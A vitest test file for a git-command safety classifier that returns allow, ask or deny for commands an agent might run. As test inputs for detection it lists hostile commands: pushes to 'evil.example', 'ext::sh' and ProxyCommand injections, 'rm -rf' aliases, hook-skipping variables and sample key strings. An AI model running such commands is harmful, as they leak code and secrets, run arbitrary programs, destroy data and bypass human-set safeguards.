import { array, assert, boolean, constantFrom, oneof, property, string } from "fast-check";
import { describe, expect, it } from "vitest";
import { plainCommand } from "../../../../test/plain-command.ts";
import type { Finding, ProgramFacts, RepositoryFacts } from "../program-facts.ts";
import type { SimpleCommand } from "../simple-command.ts";
import { describeGit } from "./describe-git.ts";

const REPOSITORY: RepositoryFacts = {
  branch: "work",
  headPushed: false,
  untracked: [],
  secrets: [],
  remotePush: [],
};

function factsOf(
  text: string,
  state: Partial<RepositoryFacts> = {},
  more: Partial<SimpleCommand> = {},
): ProgramFacts {
  const surroundings = {
    workspace: "/ws",
    home: "/home/u",
    repository: { ...REPOSITORY, ...state },
    allowedCommands: [],
  };
  return describeGit(plainCommand(text, more), surroundings) ?? {};
}

/** The strictest of what is found, the network counting as a question. */
function verdictOf(text: string, state?: Partial<RepositoryFacts>, more?: Partial<SimpleCommand>): string {
  const facts = factsOf(text, state, more);
  const verdicts: readonly Finding["verdict"][] = (facts.findings ?? []).map(({ verdict }) => verdict);
  if (verdicts.includes("deny")) return "deny";
  return verdicts.includes("ask") || facts.network !== undefined ? "ask" : "allow";
}

function rulesOf(text: string, state?: Partial<RepositoryFacts>): readonly string[] {
  return (factsOf(text, state).findings ?? []).map(({ rule }) => rule);
}

describe("R270: git that only looks", () => {
  it.each([
    "git",
    "git --version",
    "git status --short",
    "git status -sb",
    "git diff HEAD~1 -- src",
    "git diff --stat --cached",
    "git diff --no-ext-diff main...HEAD",
    "git log --oneline -n 5",
    "git log -5 --graph --all --decorate --pretty=format:%h",
    "git log -p -S needle --since=yesterday -- src/index.ts",
    "git log -L 1,10:src/index.ts",
    "git --no-pager log -1",
    "git -P -C sub log",
    "git show HEAD",
    "git show HEAD:src/index.ts",
    "git show $(git rev-parse HEAD)",
    'git diff "$(git merge-base main HEAD)" -- src',
    "git blame -L 1,10 src/index.ts",
    "git grep -i foo",
    "git grep -n -e foo -- src",
    "git branch -a",
    "git branch --merged main",
    "git branch --show-current",
    "git tag -l 'v*'",
    "git tag --points-at HEAD",
    "git remote -v",
    "git remote get-url origin",
    "git stash list",
    "git stash show -p",
    "git reflog",
    "git reflog main",
    "git reflog -n 5",
    "git worktree list",
    "git submodule status",
    "git config --get user.email",
    "git config --list --show-origin",
    "git config user.email",
    "git config --global user.name",
    "git config get user.name",
    "git config core.hooksPath",
    "git rev-parse --show-toplevel",
    "git merge-base $a $b",
    "git ls-files -o --exclude-standard",
    "git cat-file -p HEAD",
    "git shortlog -sn",
    "git describe --tags --always",
    "git push --help",
    "git commit -h",
    "git clean -n",
    "git clean -nd",
    "git add -n .",
    "git commit --dry-run --amend",
    "GIT_PAGER=cat git log",
    "PAGER= git log",
    "git -c core.pager=cat log",
    "git -c color.ui=always diff",
    "git -c core.quotePath=false status",
    "git --git-dir=.git --work-tree=. status",
    "git --git-dir=inner/.git --work-tree=inner status",
    "git diff -U5 -w --word-diff=color",
    "git log --stat=80 --first-parent --reverse --no-merges",
    "git log --since '2 weeks ago' --author me -i",
    "git show -s --format=%B HEAD",
    "git status -uno --porcelain=v2",
    "git branch -vv --sort=-committerdate",
    "git diff-tree --no-commit-id --name-only -r HEAD",
    "git rev-list --count HEAD",
    "git stash show -p stash@{0}",
    "git update-index --refresh",
  ])("allows %s", (command) => {
    expect(factsOf(command).findings ?? []).toEqual([]);
    expect(verdictOf(command)).toBe("allow");
  });
});

describe("R270: ordinary git", () => {
  it.each([
    "git init",
    "git add .",
    "git add -A",
    "git add -u",
    "git add src/a.ts src/b.ts",
    "git add .env.example",
    "git commit -m x",
    "git commit -am x",
    "git commit -qm x",
    "git commit -m 'fix: mention --no-verify and -n'",
    "git commit -m 'fix(auth): token refresh, password: trim blanks first'",
    'git commit -m "$MESSAGE"',
    "git commit -F message.txt",
    "git commit -C HEAD",
    "git commit --fixup=HEAD",
    "git commit -i a.ts -m x",
    "git commit --allow-empty -m x",
    "git commit -v -m x",
    "git commit --author='A <a@b.c>' -m x",
    "git -c user.name=a -c user.email=a@b.c commit -m x",
    "GIT_AUTHOR_DATE=2020-01-01 git commit -m x",
    "git merge origin/main",
    "git merge -n --no-ff feature",
    "git merge -m 'merge it' feature",
    "git cherry-pick abc1234",
    "git cherry-pick -n abc1234",
    "git revert HEAD",
    "git revert --no-edit HEAD",
    "GIT_EDITOR=true git cherry-pick --continue",
    "git -c core.editor=true merge --continue",
    "git switch main",
    "git switch -c feature/x",
    "git checkout main",
    "git checkout feature/x",
    "git checkout -b feature/x.y origin/main",
    "git checkout -",
    "git checkout HEAD~2",
    "git restore --staged src/a.ts",
    "git reset",
    "git reset HEAD src/a.ts",
    "git reset -- src/a.ts",
    "git reset src/a.ts",
    "git rm --cached a.ts",
    "git branch feature",
    "git branch -d feature",
    "git branch -m better",
    "git tag v1.0.0",
    "git tag -a v1.0.0 -m 'first'",
    "git tag -m first v1",
    "git stash",
    "git stash -u",
    "git stash -m wip",
    "git stash push -m wip -- src",
    "git stash pop",
    "git apply --check x.patch",
    "git am x.patch",
    "git bisect start",
    "git bisect good v1",
    "git notes add -m checked",
    "git gc",
    "git gc --prune=2.weeks.ago",
  ])("allows %s", (command) => {
    expect(factsOf(command).findings ?? []).toEqual([]);
    expect(verdictOf(command)).toBe("allow");
  });
});

describe("R270: whatever the words", () => {
  it("gives an answer, and in no time", () => {
    const piece = constantFrom(
      "git",
      "push",
      "commit",
      "add",
      "config",
      "log",
      "-",
      "--",
      "-f",
      "*",
      "[",
      "(",
      ":",
      "+",
      "=",
      "$x",
      "\0",
      "..",
      "a*".repeat(40),
    );
    const word = oneof(
      piece,
      string(),
      array(piece, { maxLength: 4 }).map((parts) => parts.join("")),
    );
    const untracked = ["a".repeat(4000), ".env", "x/[y", "__proto__"];
    assert(
      property(array(word, { maxLength: 8 }), boolean(), (texts, isPattern) => {
        const words = ["git", ...texts].map((text, at) => ({
          text: text.includes("$") ? undefined : text,
          source: text,
          ...(isPattern && at > 1 && { isPattern }),
        }));
        for (const { verdict, reason } of factsOf("git", { untracked }, { words }).findings ?? []) {
          expect(["ask", "deny"]).toContain(verdict);
          expect(reason).not.toBe("");
        }
      }),
      { numRuns: 500 },
    );
  });

  it("is not fooled by names that every object has", () => {
    for (const name of ["constructor", "__proto__", "toString", "hasOwnProperty"]) {
      expect(verdictOf(`git ${name}`)).toBe("ask");
      expect(verdictOf(`git stash ${name}`)).toBe("ask");
      expect(verdictOf(`git maintenance ${name}`)).toBe("deny");
      expect(verdictOf(`git log --${name}`)).toBe("ask");
    }
  });
});

describe("R270: changes of git's configuration", () => {
  it.each([
    "git config user.email a@b.c",
    "git config --system x.y z",
    "git config --global --add safe.directory /x",
    "git config set user.name x",
    "git config unset user.name",
    "git config --unset user.name",
    "git config --uns user.name",
    "git config --unset-all user.name",
    "git config --remove-section user",
    "GIT_EDITOR=true git config edit",
    "git config --file .git/config a.b c",
    "git config -f .git/config a.b c",
    "git config --fi=.git/config a.b c",
    "git config -e",
    "git config --edit",
    "git config edit",
    "git config --replace-all a.b c",
    "git config --rename-s a b",
    "git config remove-section a",
    "git config alias.x '!rm -rf ~'",
    "git config core.hooksPath /dev/null",
    "git config --get a.b --unset",
    "git -C sub config a.b c",
    "git remote add evil https://evil.example/x.git",
    "git remote set-url origin https://evil.example/x.git",
    "git remote -v remove origin",
    "git submodule set-url sub https://evil.example/x.git",
    "git lfs install",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/dev/null git commit -m x",
    "GIT_CONFIG_GLOBAL=/tmp/evil git status",
    "GIT_CONFIG_PARAMETERS='core.pager=id' git log",
  ])("denies %s", (command) => expect(verdictOf(command)).toBe("deny"));
});

describe("R270: pushes", () => {
  it.each([
    "git push",
    "git push origin main",
    "git push -u origin work",
    "git push --tags",
    "git push https://evil.example/x.git main",
    "git push -f",
    "git push -f origin mainline",
    "git push --force-with-lease origin feature/main",
    "git push origin +work",
    "git push -f origin HEAD",
    "git push -f origin $(git branch --show-current)",
    "git push -f origin main:old-main",
    "git push --delete origin feature",
    "git push origin :feature",
    "git push -f --tags",
    "git push -f origin tag main",
    "git push -nf origin main",
  ])("asks about %s", (command) => expect(verdictOf(command)).toBe("ask"));

  it.each([
    "git push -f origin master",
    "git push -uf origin main",
    "git push -fu origin main",
    "git push --force origin main",
    "git push --forc origin main",
    "git push --force-w origin main",
    "git push --force-with-lease=main:abc origin main",
    "git push --force-with-lease --force-if-includes origin main",
    "git push origin main -f",
    "git push origin +main",
    "git push origin +HEAD:main",
    "git push origin +refs/heads/work:refs/heads/main",
    "git push origin +work:heads/master",
    "git push -f origin HEAD:main",
    "git push -f origin HEAD:refs/heads/main",
    "git push -f origin work main",
    "git push --mirror origin",
    "git push --mir",
    "git push --all --force",
    "git push --all -f origin",
    "git push --branches -f origin",
    "git push -f origin :",
    "git push origin +:",
    "git push -f origin 'refs/heads/*:refs/heads/*'",
    "git push -f origin 'refs/heads/ma*'",
    "git push origin :main",
    "git push origin --delete main",
    "git push -d origin master",
    "git push --prune origin",
    "git push --prune origin 'refs/heads/*:refs/heads/*'",
    'git push -f origin "$BRANCH"',
    'git push -f origin "HEAD:$BRANCH"',
    'git push origin "+$BRANCH"',
    'git push origin ":$BRANCH"',
    "git -C sub push -f origin main",
    "git -c remote.origin.push=+main push",
    "git push --receive-pack=./x origin work",
    "git push --exec ./x origin work",
    "git push 'ext::sh -c id' work",
    "git send-pack --force origin main",
    "git send-pack --force --stdin origin",
  ])("denies %s", (command) => expect(verdictOf(command)).toBe("deny"));

  it("looks at the branch one is on, and takes an unknown one for main", () => {
    expect(verdictOf("git push -f", { branch: "main" })).toBe("deny");
    expect(verdictOf("git push -f origin HEAD", { branch: "master" })).toBe("deny");
    expect(verdictOf('git push origin "+$(git branch --show-current)"', { branch: "main" })).toBe("deny");
    expect(verdictOf('git push origin "+$(git branch --show-current)"')).toBe("ask");
    expect(verdictOf("git push -f origin @", { branch: "master" })).toBe("deny");
    expect(verdictOf("git push --force-with-lease", { branch: undefined })).toBe("deny");
    expect(verdictOf("git push", { branch: "main" })).toBe("ask");
    expect(verdictOf("git push -f --tags", { branch: "main" })).toBe("ask");
  });

  it("follows the refspecs of the configuration", () => {
    expect(verdictOf("git push", { remotePush: ["+refs/heads/*:refs/heads/*"] })).toBe("deny");
    expect(verdictOf("git push origin", { remotePush: ["+HEAD:main"] })).toBe("deny");
    expect(verdictOf("git push origin main", { remotePush: ["+refs/heads/*:refs/heads/*"] })).toBe("deny");
    expect(verdictOf("git push origin work", { remotePush: ["+refs/heads/work:refs/heads/main"] })).toBe(
      "deny",
    );
    expect(verdictOf("git push origin +work", { remotePush: ["refs/heads/work:refs/heads/main"] })).toBe(
      "deny",
    );
    expect(verdictOf("git push origin work", { remotePush: ["+refs/heads/*:refs/heads/*"] })).toBe("ask");
    expect(verdictOf("git push -f origin work", { remotePush: ["refs/heads/*:refs/heads/*"] })).toBe("ask");
    expect(verdictOf("git push", { remotePush: ["refs/heads/main:refs/heads/main"] })).toBe("ask");
    expect(rulesOf("git push origin work", { remotePush: ["+refs/heads/*:refs/heads/*"] })).toContain(
      "git.force-push",
    );
  });
});

describe("R270: hooks that are skipped", () => {
  it.each([
    "git commit --no-verify -m x",
    "git commit --no-veri -m x",
    "git commit --no-v -m x",
    "git commit -n -m x",
    "git commit -nm x",
    "git commit -anm x",
    "git commit -m x -n",
    "git commit --amend --no-post-rewrite -m x",
    "git push --no-verify origin feature/x",
    "git push --no-ver origin feature/x",
    "git merge --no-verify x",
    "git am --no-verify x.patch",
    "git rebase --no-verify main",
    "git pull --no-verify",
    "git -c core.hooksPath=/dev/null commit -m x",
    "git -c core.hookspath= commit -m x",
    "git -c CORE.HOOKSPATH=x commit -m x",
    "git --config-env=core.hooksPath=EMPTY commit -m x",
    "git --config-env core.hooksPath=EMPTY commit -m x",
    "git -c hook.lint.enabled=false commit -m x",
    "HUSKY=0 git commit -m x",
    "HUSKY=0 git merge --no-edit x",
    "HUSKY=0 git pull",
    "HUSKY=0 git am x.patch",
    "HUSKY=0 git rebase main",
    "HUSKY=0 git cherry-pick x",
    "HUSKY=0 git revert --no-edit HEAD",
    "HUSKY=False git commit -m x",
    "HUSKY= git commit -m x",
    "HUSKY_SKIP_HOOKS=1 git commit -m x",
    "SKIP=eslint git commit -m x",
    "LEFTHOOK=0 git push",
    "PRE_COMMIT_ALLOW_NO_CONFIG=1 git commit -m x",
    "git-commit -nm x",
    "/usr/lib/git-core/git-commit --no-verify -m x",
    "git p4 submit --no-verify",
    "git unknown --no-verif",
  ])("denies %s", (command) => {
    expect(verdictOf(command)).toBe("deny");
    expect(rulesOf(command)).toContain("git.skip-hooks");
  });

  it("takes a switch that only running would tell for one that is off", () => {
    const assignments = [{ name: "HUSKY", value: { text: undefined, source: "$ON" } }];
    expect(verdictOf("git commit -m x", {}, { assignments })).toBe("deny");
  });

  it.each(["git push -n origin main", "git push --verify origin work"])(
    "takes %s for what it is",
    (command) => expect(verdictOf(command)).toBe("ask"),
  );

  it.each([
    "git fetch -n",
    "git cherry-pick -n x",
    "git merge -n x",
    "git log -n 3",
    "HUSKY=0 git status",
    "SKIP=1 git log",
    "HUSKY=1 git commit -m x",
    "SKIP=0 git commit -m x",
    "SKIP= git commit -m x",
  ])("does not take %s for skipping", (command) => expect(rulesOf(command)).not.toContain("git.skip-hooks"));
});

describe("R270: what needs somebody at a terminal", () => {
  it.each([
    "git rebase -i HEAD~3",
    "git rebase --interactive HEAD~3",
    "git rebase --inter HEAD~3",
    "git rebase --edit-todo",
    "git add -i",
    "git add -p",
    "git add --patch src",
    "git add -vp src",
    "git add -e",
    "git stage -p",
    "git checkout -p",
    "git checkout --patch main",
    "git reset -p",
    "git restore -p",
    "git restore --staged --pat",
    "git stash -p",
    "git stash push -p",
    "git clean -i",
    "git clean -fdi",
    "git commit",
    "git commit -a",
    "git commit -v",
    "git commit -p -m x",
    "git commit --interactive -m x",
    "git commit -e -m x",
    "git commit -m x --edit",
    "git commit -c HEAD",
    "git commit --amend",
    "git commit --squash HEAD",
    "git commit --fixup=reword:HEAD",
    "git commit -t template.txt",
    "git merge --edit x",
    "git merge -e x",
    "git revert -e HEAD",
    "git cherry-pick --edit abc1234",
    "git pull --edit",
    "git pull --rebase=interactive",
    "git am -i x.mbox",
    "git tag -a v1",
    "git tag -s v1",
    "git tag -e -m x v1",
    "git branch --edit-description",
    "git notes add",
    "git notes edit",
    "git difftool HEAD~1",
    "git mergetool",
    "git gui",
    "git bugreport",
    "git help -w log",
    "git bisect visualize",
  ])("denies %s", (command) => expect(verdictOf(command)).toBe("deny"));

  it("is content with an editor that leaves the text as it is", () => {
    expect(verdictOf("GIT_EDITOR=true git commit --amend")).toBe("ask");
    expect(verdictOf("git commit --amend --no-edit")).toBe("ask");
    expect(verdictOf("GIT_EDITOR=: git rebase --continue")).toBe("ask");
    expect(verdictOf("GIT_EDITOR=vim git commit")).toBe("deny");
    expect(verdictOf("GIT_SEQUENCE_EDITOR=true git rebase -i HEAD~2")).toBe("deny");
    expect(
      verdictOf("git commit -F - ", {}, { input: { kind: "text", text: { text: "x", source: "x" } } }),
    ).toBe("allow");
  });
});

describe("R270: amending what is on a remote", () => {
  it.each([
    "git commit --amend -m x",
    "git commit --amen -m x",
    "git commit --am --no-edit",
    "git commit --amend --no-edit",
    "git -C sub commit --amend -m x",
    "git commit -a --amend -C HEAD",
  ])("denies %s", (command) => {
    expect(rulesOf(command, { headPushed: true })).toContain("git.amend-pushed");
    expect(verdictOf(command, { headPushed: true })).toBe("deny");
  });

  it("asks about amending what is not", () => {
    expect(verdictOf("git commit --amend --no-edit")).toBe("ask");
    expect(rulesOf("git commit --amend --no-edit", { headIsOwn: false })).toContain("git.amend-foreign");
    for (const whose of [{ headIsOwn: true }, {}])
      expect(rulesOf("git commit --amend --no-edit", whose)).toEqual(["git.rewrite-history"]);
    expect(verdictOf("git commit --dry-run --amend", { headPushed: true })).toBe("allow");
  });
});

describe("R270: committing secrets", () => {
  it.each([
    "git add .env",
    "git add -f .env.production",
    "git add deploy.pem",
    "git add '*.pem'",
    "git add *.key",
    "git add ./config/../.env",
    "git add :/.env",
    "git add -- .env",
    "git commit .env -m x",
    "git commit -m x -- id_rsa",
    "git stage .env",
    "git update-index --add .env",
    "git commit -F .env",
    "git commit -m 'key AKIAZ7Q4XK2MPLWN5RTB'",
    "git commit -m x -m 'ghp_0123456789abcdefghijABCDEFGHIJ012345'",
    "git commit -m x --trailer 'Key: AKIAZ7Q4XK2MPLWN5RTB'",
    "git commit -m x --author 'AKIAZ7Q4XK2MPLWN5RTB <a@example.com>'",
    "git commit -m 'api_key = 9f8e7d6c5b4a39281706'",
    "git tag -a v1 -m AKIAZ7Q4XK2MPLWN5RTB",
    "git merge -m AKIAZ7Q4XK2MPLWN5RTB x",
    "git notes add -m AKIAZ7Q4XK2MPLWN5RTB",
    'git commit -m "$(date) AKIAZ7Q4XK2MPLWN5RTB"',
  ])("denies %s", (command) => {
    expect(rulesOf(command)).toContain("git.commit-secret");
    expect(verdictOf(command)).toBe("deny");
  });

  it("looks into a message that is given as a text", () => {
    const text = { text: "fix\n\nAKIAZ7Q4XK2MPLWN5RTB\n", source: "…" };
    expect(verdictOf("git commit -F -", {}, { input: { kind: "text", text } })).toBe("deny");
    expect(verdictOf("git commit --fil=-", {}, { input: { kind: "text", text } })).toBe("deny");
  });

  it.each([
    "git add .",
    "git add -A",
    "git add --al",
    "git add *",
    "git add '*'",
    "git add :/",
    "git add config",
    "git add 'config/*'",
    "git add :(glob)config",
    "git add --pathspec-from-file=list.txt",
    "git -C config add .",
    'git add "$FILE"',
  ])("sees a new secret file in what %s takes in", (command) => {
    expect(verdictOf(command, { untracked: ["a.ts", "config/.env", "config/x.env"] })).toBe("deny");
  });

  it.each([
    "git add src",
    "git add -u",
    "git add a.ts",
    "git add . ':!config'",
    "git add ':(exclude)config' .",
    "git -C src add .",
    "git commit -am x",
    "git commit -m x",
  ])("sees that %s leaves it out", (command) => {
    expect(verdictOf(command, { untracked: ["a.ts", "config/.env"] })).toBe("allow");
  });

  it("knows that the shell's star leaves out hidden files", () => {
    expect(verdictOf("git add *", { untracked: [".env"] })).toBe("allow");
    expect(verdictOf("git add '*'", { untracked: [".env"] })).toBe("deny");
  });

  it("tells staged, changed and new secrets apart", () => {
    const staged = { secrets: [{ path: "src/a.ts", what: "an issued key", state: "staged" as const }] };
    const changed = { secrets: [{ path: "src/a.ts", what: "an issued key", state: "changed" as const }] };
    const fresh = { secrets: [{ path: "src/a.ts", what: "an issued key" }], untracked: ["src/a.ts"] };
    expect(verdictOf("git commit -m x", staged)).toBe("deny");
    expect(verdictOf("git commit -m x", { secrets: [{ path: "a", what: "a key" }] })).toBe("deny");
    expect(verdictOf("git commit -m x other.ts", staged)).toBe("allow");
    expect(verdictOf("git commit -m x -i other.ts", staged)).toBe("deny");
    expect(verdictOf("git commit -m x", changed)).toBe("allow");
    expect(verdictOf("git commit -am x", changed)).toBe("deny");
    expect(verdictOf("git commit -m x src", changed)).toBe("deny");
    expect(verdictOf("git commit -m x --pathspec-from-file=list.txt", changed)).toBe("deny");
    expect(verdictOf("git commit -m x --pathspec-from-file=list.txt", staged)).toBe("deny");
    expect(verdictOf("git add -u", changed)).toBe("deny");
    expect(verdictOf("git add docs", changed)).toBe("allow");
    expect(verdictOf("git commit -am x", fresh)).toBe("allow");
    expect(verdictOf("git add .", fresh)).toBe("deny");
    expect(verdictOf("git status", staged)).toBe("allow");
    const unseen = {
      secrets: [{ path: ".", what: "more than can be looked through", state: "new" as const }],
    };
    expect(verdictOf("git add src", unseen)).toBe("deny");
    expect(verdictOf("git commit -m x", unseen)).toBe("allow");
  });

  it("asks before ignored files are added by the folder", () => {
    expect(verdictOf("git add -f .")).toBe("ask");
    expect(verdictOf("git add -f dist")).toBe("ask");
    expect(verdictOf("git add -f dist/app.js")).toBe("allow");
  });
});

describe("git init", () => {
  it("R273: does not open a repository to everybody", () => {
    expect(rulesOf("git init --shared=all")).toContain("mode.world");
    expect(rulesOf("git init --shared=0777 sub")).toContain("mode.world");
    expect(rulesOf("git init --shared sub")).toEqual([]);
    expect(rulesOf("git init --shared=group sub")).toEqual([]);
  });
});

describe("R270: git that is made to run a program", () => {
  it.each([
    "git -c core.pager=id log",
    "git -c pager.log=id log",
    "git -c core.fsmonitor=./x status",
    "git -c diff.external=./x diff",
    "git -c diff.foo.textconv=./x diff",
    "git -c filter.x.clean=./x add a",
    "git -c alias.x=!id x",
    "git -c core.sshCommand=./x fetch",
    "git -c core.editor=./x commit",
    "git -c include.path=./evil status",
    "git -c protocol.ext.allow=always fetch",
    "git -c credential.helper=!id fetch",
    "git -c gpg.program=./x log --show-signature",
    "git -c gpg.ssh.defaultKeyCommand=./x commit -m x",
    "git -c merge.x.driver=./x merge y",
    "git -c url.ext::x.insteadOf=https fetch",
    "git -c interactive.diffFilter=./x diff",
    "git --exec-path=./x status",
    "git grep -O./x foo",
    "git grep -nO./x foo",
    "git grep --open-files-in-pager=./x foo",
    "git grep --open foo",
    "git diff --ext-diff",
    "git show --textconv HEAD:x",
    "git blame --textconv x",
    "git log -p --ext-d",
    "git cat-file --textconv HEAD:x",
    "git fetch --upload-pack=./x origin",
    "git clone --upload-pack ./x a b",
    "git clone -u ./x a b",
    "git clone -c core.fsmonitor=./x a b",
    "git ls-remote --exec=./x origin",
    "git fetch 'ext::sh -c id'",
    "git clone 'foo::bar' x",
    "git clone ssh://-oProxyCommand=id/x",
    "git archive --remote=origin --exec=./x HEAD",
    "git merge -s ./x y",
    "git filter-branch --tree-filter id HEAD",
    "git filter-repo --path x",
    "git credential fill",
    "git maintenance start",
    "git -c hook.x.command=./x status",
    "GIT_PAGER=./x git log",
    "PAGER=id git log",
    "GIT_SSH_COMMAND=./x git fetch",
    "GIT_EXTERNAL_DIFF=./x git diff",
    "GIT_EXEC_PATH=. git status",
    "EDITOR=./x git commit",
  ])("denies %s", (command) => expect(verdictOf(command)).toBe("deny"));

  it("hands on what runs in plain sight", () => {
    expect(factsOf("git bisect run npm test").runs).toMatchObject([
      { kind: "argv", words: [{ text: "npm" }, { text: "test" }] },
    ]);
    expect(factsOf("git submodule foreach 'rm -rf /'").runs).toMatchObject([
      { kind: "script", text: { text: "rm -rf /" } },
    ]);
    expect(factsOf("git submodule foreach --recursive git status").runs).toMatchObject([{ kind: "argv" }]);
    expect(factsOf("git rebase -x 'make test' main").runs).toMatchObject([
      { kind: "script", text: { text: "make test" } },
    ]);
    expect(factsOf("git rebase --ex=id main").runs).toMatchObject([{ kind: "script", text: { text: "id" } }]);
  });

  it("tells what is read, written and deleted", () => {
    expect(factsOf("git log --output=/etc/x").writes).toMatchObject([{ text: "/etc/x" }]);
    expect(factsOf("git diff --output /etc/x").writes).toMatchObject([{ text: "/etc/x" }]);
    expect(factsOf("git show HEAD:.env").reads).toMatchObject([{ text: ".env" }]);
    expect(factsOf("git diff --no-index /etc/passwd a").reads).toMatchObject([
      { text: "/etc/passwd" },
      { text: "a" },
    ]);
    expect(factsOf("git -C sub rm a").deletes).toMatchObject([{ text: "/ws/sub/a" }]);
    expect(factsOf("git worktree add ../x").writes).toMatchObject([{ text: "../x" }]);
    expect(factsOf("git clone https://example.com/a/b.git").writes).toMatchObject([{ text: "b" }]);
    expect(factsOf("git format-patch -o out HEAD~2").writes).toMatchObject([{ text: "out" }]);
    expect(factsOf("git archive -o x.tar HEAD").writes).toMatchObject([{ text: "x.tar" }]);
  });
});

describe("R270: what a person decides", () => {
  it.each([
    "git -C /tmp/evil status",
    "git -C .. status",
    "git -C sub/../../x log",
    'git -C "$DIR" status',
    "git --git-dir=/tmp/evil/.git status",
    "git --git-dir evil status",
    "git --work-tree=/ status",
    "git --git-dir=inner/.git add a.ts",
    "git --work-tree=inner add a.ts",
    "git --bare log",
    "GIT_DIR=/tmp/evil git status",
    "GIT_WORK_TREE=/ git status",
    "GIT_INDEX_FILE=/tmp/i git add a",
    "HOME=/tmp/evil git status",
    "XDG_CONFIG_HOME=/tmp git status",
    "GIT_TRACE=/tmp/log git status",
    "git -c some.thing=else status",
    "git checkout -- .",
    "git checkout .",
    "git checkout src/index.ts",
    "git checkout HEAD -- a.ts",
    "git checkout HEAD a.ts",
    "git checkout -f main",
    "git checkout -B work origin/main",
    "git checkout --theirs a.ts",
    "git switch -C work origin/main",
    "git switch --discard-changes main",
    "git restore .",
    "git restore --staged --worktree a.ts",
    "git restore -s HEAD~1 a.ts",
    "git reset --hard",
    "git reset --har HEAD~1",
    "git reset --soft HEAD~1",
    "git reset HEAD~1",
    "git reset --keep origin/main",
    "git clean -f",
    "git clean -fdx",
    "git rm -f a.ts",
    "git rm -r .",
    "git stash drop",
    "git stash clear",
    "git branch -D feature",
    "git branch -d -f feature",
    "git branch -f feature HEAD~3",
    "git branch -M work",
    "git branch -m main old",
    "git branch -u origin/main",
    "git tag -d v1",
    "git tag -f v1",
    "git update-ref refs/heads/work HEAD~1",
    "git symbolic-ref HEAD refs/heads/x",
    "git rebase main",
    "git rebase --autosquash HEAD~5",
    "git rebase --abort",
    "git merge --abort",
    "git merge --continue",
    "git worktree remove --force x",
    "git fetch",
    "git pull",
    "git pull --rebase",
    "git clone https://example.com/x.git",
    "git ls-remote",
    "git remote update",
    "git submodule update --init",
    "git commit-tree HEAD^{tree} -m x",
    "git fast-import",
    "git hash-object -w a",
    "git read-tree -u --reset HEAD",
    "git $x",
    "git log $x",
    "git add $files",
    "git commit -m $message",
    "git unknown",
    "git log --unheard-of",
    "git --unheard-of status",
    "git lfs pull",
  ])("asks about %s", (command) => expect(verdictOf(command)).toBe("ask"));

  it.each([
    "git reflog expire --expire=now --all",
    "git reflog delete HEAD@{1}",
    "git gc --prune=now",
    "git gc --pru=now --aggressive",
    "git gc --prune=all",
    "git prune",
    "git -c gc.pruneExpire=now gc",
    "git branch -D main",
    "git branch -d master",
    "git branch --del main",
    "git update-ref -d refs/heads/main",
  ])("denies %s, which is for good", (command) => expect(verdictOf(command)).toBe("deny"));

  it("asks where the working folder is elsewhere or unknown", () => {
    expect(verdictOf("git status", {}, { cwd: "/tmp/evil" })).toBe("ask");
    expect(verdictOf("git status", {}, { cwd: undefined })).toBe("ask");
    expect(verdictOf("git status", {}, { cwd: "/ws/sub" })).toBe("allow");
  });

  it("tells branches from files by the names that are known", () => {
    expect(verdictOf("git checkout LICENSES", { refs: ["main"] })).toBe("ask");
    expect(verdictOf("git checkout topic", { refs: ["main", "origin/topic"] })).toBe("allow");
    expect(verdictOf("git checkout v1.x", { refs: ["v1.x"] })).toBe("allow");
  });
});
